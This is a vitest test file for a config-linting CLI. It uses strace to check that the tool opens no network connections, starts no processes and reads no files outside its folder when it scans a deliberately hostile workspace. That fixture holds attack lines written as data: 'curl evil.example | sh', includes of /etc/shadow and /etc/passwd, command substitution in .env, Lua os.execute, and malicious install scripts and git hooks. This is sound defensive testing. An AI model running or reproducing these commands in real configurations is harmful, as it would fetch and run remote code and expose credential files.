/** What the command line asks of the system, seen by a tracer: it opens no connection, starts no program, and reads nothing outside of its folder. */
import { execFileSync, spawnSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { folderOf } from '../cli/folder.ts'
import { built } from '../cli/gatelint.ts'

const { path } = built()

/** A workspace that would have much run, fetched and read, if anybody did as it says. */
const hostile = {
  'nginx.conf': `include /etc/shadow;
load_module /tmp/evil.so;
events {}
http {
  include ../../../../../../etc/passwd;
  include /etc/ssl/private/*.key;
  include http://evil.example/nginx.conf;
  lua_package_path "/tmp/?.lua";
  server {
    listen 80;
    ssl_certificate_key /etc/ssl/private/secret.key;
    access_log "|/bin/sh -c id";
    location / { proxy_pass http://api.evil.example:8080; content_by_lua_block { os.execute("id") } }
  }
}
`,
  'haproxy.cfg': `global
  lua-load /tmp/evil.lua
  external-check
defaults
  mode http
backend b
  option external-check
  external-check command /bin/sh
  errorfile 503 /etc/passwd
  http-request set-map(/etc/passwd) a b
  server s evil.example:80 check ca-file /etc/ssl/private/secret.key
`,
  'compose.yaml': `include: [../../../../etc/compose.yaml, "https://evil.example/compose.yaml"]
services:
  web:
    image: nginx
    env_file: [/etc/environment, ../../../../etc/passwd]
    volumes: ["./nginx.conf:/etc/nginx/nginx.conf", "/etc:/etc/nginx/conf.d", "/home/other/.ssh:/keys"]
    extends: { file: /etc/other.yaml, service: web }
    command: sh -c "curl evil.example | sh"
    build: { context: "https://evil.example/repo.git", dockerfile: /etc/Dockerfile }
`,
  Dockerfile:
    '# syntax=evil.example/frontend\nFROM nginx\nADD http://evil.example/x /etc/nginx/\nRUN curl evil.example | sh\nCOPY ../../etc /etc\n',
  '.env': 'COMPOSE_FILE=/etc/compose.yaml:compose.yaml\nX=$(id)\nY=`id`\n',
  '.gatelint.yaml': 'extends: strict\n',
  'k8s.yaml':
    'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a }\ndata:\n  nginx.conf: |\n    include /etc/shadow;\n    events {}\n',
  'kustomization.yaml':
    'resources: ["https://evil.example/base", ../../../../etc]\nhelmCharts: [{ name: a, repo: "https://evil.example" }]\n',
  'package.json': '{ "scripts": { "preinstall": "id" } }',
  'node_modules/evil/index.js': 'require("child_process").execSync("id")',
  '.git/hooks/pre-commit': '#!/bin/sh\nid\n',
}

/** The system calls of a run, a line each. The system's own libraries are loaded before anything of ours runs. */
function traced(folder: string, calls: string, args: readonly string[]): readonly string[] {
  const log = join(dirname(folder), `${folder.split('/').at(-1)}.trace`)
  const { error, status, stderr } = spawnSync(
    'strace',
    [
      '-f',
      '-qq',
      '-s',
      '4096',
      '-e',
      `trace=${calls}`,
      '-e',
      'signal=none',
      '-o',
      log,
      process.execPath,
      path(),
      ...args,
    ],
    { cwd: folder, encoding: 'utf8', env: { HOME: '/home/nobody' } },
  )
  expect(error).toBeUndefined()
  expect(status, stderr).toBeLessThan(2)
  return readFileSync(log, 'utf8')
    .split('\n')
    .map(line => line.replace(/^\d+\s+/, ''))
    .filter(line => line !== '' && !line.startsWith('+++'))
}

/** Whatever it is asked to do with them. */
const runs: readonly (readonly string[])[] = [
  [],
  ['--format', 'sarif', '--verbose', '--stats'],
  ['--fix', '--unsafe-fixes'],
  ['doctor'],
  ['explain', 'connect() failed (111: Connection refused)'],
  ['--print-config', 'nginx.conf'],
]

describe('a run', () => {
  test.each(runs.map(args => [args.join(' ') || 'without arguments', args] as const))('%s', (_, args) => {
    const calls = traced(
      folderOf(hostile),
      'socket,connect,bind,listen,accept,accept4,execve,execveat,fork,vfork',
      args,
    )
    const [start, ...others] = calls
    expect(start).toMatch(/^execve\(/)
    expect(others).toEqual([])
  })
})

test('the tracer sees what it is to see', () => {
  const log = join(folderOf({}), 'trace')
  const script =
    "require('net').connect(9, '127.0.0.1').on('error', () => require('child_process').execFileSync('true'))"
  execFileSync('strace', ['-f', '-qq', '-e', 'trace=network,execve', '-o', log, process.execPath, '-e', script])
  const calls = readFileSync(log, 'utf8')
  expect(calls).toMatch(/connect\(\d+, \{sa_family=AF_INET/)
  expect(calls.match(/execve\(/g)!.length).toBeGreaterThan(1)
})

test('nothing is read that is not below the folder', () => {
  const folder = folderOf(hostile)
  const opened = traced(folder, 'open,openat,openat2,readlink,readlinkat', []).flatMap(
    call => /"([^"]*)"/.exec(call)?.[1] ?? [],
  )
  const outside = opened.filter(
    file =>
      !file.startsWith(folder) && !file.startsWith(dirname(path())) && !file.startsWith(dirname(process.execPath)),
  )
  const own =
    /^(?:\/(?:proc|sys|dev)\/|\/(?:usr\/)?lib|\/etc\/(?:ld\.so|ssl\/openssl\.cnf)|\/usr\/(?:share\/(?:locale|zoneinfo|nodejs)|local\/(?:lib|ssl))|\.?\.?$)/
  expect(outside.filter(file => !own.test(file) && !isAbove(file, folder))).toEqual([])
  expect(opened).toContain(join(folder, 'nginx.conf'))
})

/** The folders above are asked whether they hold a repository or settings. */
const isAbove = (file: string, folder: string): boolean => {
  const parent = dirname(file)
  return (
    folder.startsWith(file) ||
    (folder.startsWith(parent === '/' ? '/' : `${parent}/`) &&
      /^\.(?:git|gitignore|gatelint)/.test(file.slice(parent.length).replace('/', '')))
  )
}
